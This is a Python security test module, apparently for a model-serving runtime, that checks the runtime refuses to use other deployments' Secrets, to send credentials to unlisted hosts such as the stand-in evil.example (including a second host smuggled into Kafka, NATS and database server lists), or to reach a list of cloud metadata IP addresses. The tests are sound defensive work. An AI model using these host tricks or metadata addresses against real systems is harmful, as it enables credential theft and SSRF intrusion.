"""Ways to send a Secret to a stranger, or to reach hosts that the admin does not list."""

from __future__ import annotations

import asyncio
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

from fourways_api import BatchSource, Contract, EntityKey, FetchPolicy, Paths, SecretReference
from fourways_api import StreamSource as Stream
from fourways_api.modes import FeatureLookup, Sink
from fourways_runtime.errors import WorkloadError
from fourways_runtime.io.brokers.registry import open_publisher
from fourways_runtime.io.feature_store import open_features
from fourways_runtime.io.fetch import fetch
from fourways_runtime.io.fetch.filesystems import filesystem
from fourways_runtime.io.fetch.network import check_address
from fourways_runtime.io.sinks import open_sink
from fourways_runtime.io.sources import open_table
from fourways_runtime.workloads.edge.signing import signing_key

from .way import CANARY, Ground, Reached, Way

CONTRACT = Contract.model_validate(
    {
        "entityKey": {"name": "id"},
        "inputs": [{"name": "x", "type": "float32"}],
        "outputs": [{"name": "y", "type": "float32"}],
    }
)
METADATA = {
    "AWS, Google, Azure": "169.254.169.254",
    "tasks of AWS": "169.254.170.2",
    "AWS over IPv6": "fd00:ec2::254",
    "Google over IPv6": "fd20:ce::254",
    "Alibaba": "100.100.100.200",
    "Azure's wire server": "168.63.129.16",
    "Oracle": "192.0.0.192",
    "AWS behind NAT64": "64:ff9b::a9fe:a9fe",
    "Alibaba behind NAT64": "64:ff9b::6464:64c8",
    "link-local IPv6": "fe80::a9fe:a9fe",
}
LISTED = FetchPolicy(hosts=("models.example",))
_KEY = EntityKey(name="id", type="string")
_PASSWORD = f"postgresql://u:{CANARY}@"


def refused(call: Callable[[], Any]) -> str:
    """Return the text of the error that a call ends with. Raises Reached."""
    try:
        found = call()
    except WorkloadError as error:
        return str(error)
    raise Reached(f"it returned {found!r}")


def paths_of(ground: Ground) -> Paths:
    """Return the mounts of the deployment ``mine``."""
    return Paths(
        secrets_root=str(ground.folder / "secrets"),
        volumes_root=str(ground.folder / "volumes"),
        store_uri_file=str(ground.folder / "store" / "uri"),
    ).of("mine")


def _model(ground: Ground, uri: str, secret: str = "", policy: FetchPolicy | None = None) -> Any:
    return fetch(
        uri.format(port=ground.stranger.port),
        into=ground.folder / "cache",
        digest=None,
        max_bytes=1 << 20,
        policy=policy or FetchPolicy(),
        paths=paths_of(ground),
        credentials=ground.folder / "secrets" / secret if secret else None,
        sleep=lambda _: None,
    )


def _listing(ground: Ground, uri: str, secret: str) -> Any:
    return filesystem(
        uri.format(port=ground.stranger.port),
        credentials=ground.folder / "secrets" / secret,
        policy=FetchPolicy(),
        paths=paths_of(ground),
    )


def _publish(ground: Ground, told: dict[str, Any], policy: FetchPolicy | None = None) -> Any:
    async def send() -> None:
        publisher = open_publisher(
            Stream.model_validate(told), paths_of(ground), policy or FetchPolicy()
        )
        try:
            await publisher.publish(b"k", b"{}", {})
        finally:
            await publisher.close()

    return asyncio.run(send())


def _rows(ground: Ground, policy: FetchPolicy | None = None) -> Any:
    told = {"query": {"database": {"secretName": "others"}, "sql": "SELECT 1"}}
    source = BatchSource.model_validate(told)
    table = open_table(source, CONTRACT, policy=policy or FetchPolicy(), paths=paths_of(ground))
    return list(table.chunks())


def _features(ground: Ground, policy: FetchPolicy | None = None) -> Any:
    told = {"database": {"secretName": "others"}, "table": "t"}
    lookup = FeatureLookup.model_validate(told)
    return open_features(lookup, _KEY, ["x"], paths_of(ground), policy=policy or FetchPolicy())


def _sink(ground: Ground, policy: FetchPolicy | None = None) -> Any:
    told = {"table": {"database": {"secretName": "others"}, "table": "t"}}
    sink = open_sink(
        Sink.model_validate(told),
        CONTRACT,
        "r",
        policy=policy or FetchPolicy(),
        paths=paths_of(ground),
    )
    return sink.begin() if sink is not None else None


def _key(ground: Ground) -> Any:
    return signing_key(SecretReference.model_validate({"secretName": "others"}), paths_of(ground))


def _kafka(secret: str, servers: str) -> dict[str, Any]:
    kafka = {"bootstrapServers": servers, "topic": "t"}
    return {"kafka": kafka | ({"credentials": {"secretName": secret}} if secret else {})}


def _nats(secret: str, servers: str) -> dict[str, Any]:
    nats = {"servers": servers, "stream": "S", "subject": "s"}
    return {"nats": nats | ({"credentials": {"secretName": secret}} if secret else {})}


def ways() -> Iterator[Way]:
    """Return the ways with hosts and Secrets."""
    yield from _of_others()
    yield from _to_strangers()
    yield from _not_listed()
    for cloud, address in METADATA.items():

        def refusal(ground: Ground, address: str = address) -> str:
            return refused(partial(check_address, address, "models.example"))

        yield Way("host", f"metadata of {cloud}", refusal, "metadata")


def _secret_way(name: str, says: str, use: Callable[[Ground], Any], **secret: str) -> Way:
    def refusal(ground: Ground) -> str:
        ground.secret("others", **secret)
        return refused(lambda: use(ground))

    return Way("Secret", name, refusal, says)


def _of_others() -> Iterator[Way]:
    """A Secret of the namespace that lists other deployments."""
    web, key = "http://127.0.0.1:{port}/m", f"-----BEGIN {CANARY}"
    says, other = "not for the deployment mine", {"deployments": "others"}
    login = {**other, "token": CANARY}
    uses: dict[str, tuple[Callable[[Ground], Any], dict[str, str]]] = {
        "a model": (lambda ground: _model(ground, web, "others"), login),
        "a table": (lambda ground: _listing(ground, web, "others"), login),
        "an OCI registry": (
            lambda ground: _model(ground, "oci://127.0.0.1:{port}/m:1", "others"),
            {**other, "username": "u", "password": CANARY},
        ),
        "a bucket": (
            lambda ground: _model(ground, "s3://bucket/m", "others"),
            {**other, "AWS_ACCESS_KEY_ID": "a", "AWS_SECRET_ACCESS_KEY": CANARY},
        ),
        "a query": (_rows, {**other, "uri": f"{_PASSWORD}db.example/d"}),
        "features": (_features, {**other, "uri": f"{_PASSWORD}db.example/d"}),
        "a sink": (_sink, {**other, "uri": f"{_PASSWORD}db.example/d"}),
        "signing": (_key, {**other, "signing-key.pem": key}),
        "Kafka": (
            lambda ground: _publish(ground, _kafka("others", "127.0.0.1:9")),
            {**other, "sasl.password": CANARY},
        ),
        "NATS": (
            lambda ground: _publish(ground, _nats("others", "nats://127.0.0.1:9")),
            login,
        ),
    }
    for name, (use, secret) in uses.items():
        yield _secret_way(f"another deployment's, for {name}", says, use, **secret)
    use, secret = uses["a model"]
    yield _secret_way("one that lists nobody", says, use, **secret | {"deployments": ""})
    yield _secret_way("one for a longer name", says, use, **secret | {"deployments": "mine2"})
    yield _secret_way("one for a pattern", says, use, **secret | {"deployments": "m*"})


def _to_strangers() -> Iterator[Way]:
    """A Secret for this deployment, sent to hosts that it does not list."""
    web = "http://127.0.0.1:{port}/m"
    for hosts in ("", "models.example", "*", "127.0.0.1:1", "*.0.0.1"):
        yield _secret_way(
            f"sent to a stranger, listing {hosts or 'no host'}",
            "not sent to 127.0.0.1",
            lambda ground: _model(ground, web, "others"),
            hosts=hosts,
            token=CANARY,
        )
    yield _secret_way(
        "sent to a stranger by the listing of a table",
        "not sent to 127.0.0.1",
        lambda ground: _listing(ground, web, "others"),
        hosts="models.example",
        token=CANARY,
    )
    yield _secret_way(
        "sent to one strange broker of two",
        "evil.example",
        lambda ground: _publish(ground, _kafka("others", "models.example:1,evil.example:1")),
        hosts="models.example",
        **{"sasl.password": CANARY},
    )
    yield _secret_way(
        "sent to one strange NATS server of two",
        "evil.example",
        lambda ground: _publish(
            ground, _nats("others", "nats://models.example,nats://evil.example")
        ),
        hosts="models.example",
        token=CANARY,
    )


def _not_listed() -> Iterator[Way]:
    """Hosts that the admin's list does not have."""
    uses: dict[str, Callable[[Ground], Any]] = {
        "a model": lambda ground: _model(ground, "https://evil.example/m", "", LISTED),
        "a longer name": lambda ground: _model(
            ground, "https://models.example.evil.example/m", "", LISTED
        ),
        "a registry": lambda ground: _model(ground, "oci://evil.example/m:1", "", LISTED),
        "a broker of Kafka": lambda ground: _publish(
            ground, _kafka("", "models.example:1,evil.example:1"), LISTED
        ),
        "a server of NATS": lambda ground: _publish(
            ground, _nats("", "nats://evil.example"), LISTED
        ),
    }
    for name, use in uses.items():

        def refusal(ground: Ground, use: Callable[[Ground], Any] = use) -> str:
            return refused(lambda: use(ground))

        yield Way("host", f"{name} that is not listed", refusal, "evil.example")
    databases = {"query": _rows, "features": _features, "sink": _sink}
    for name, database in databases.items():

        def second(ground: Ground, use: Callable[..., Any] = database) -> str:
            ground.secret("others", uri=f"{_PASSWORD}models.example,evil.example/d")
            return refused(lambda: use(ground, LISTED))

        yield Way("host", f"a database that is not listed, for {name}", second, "evil.example")
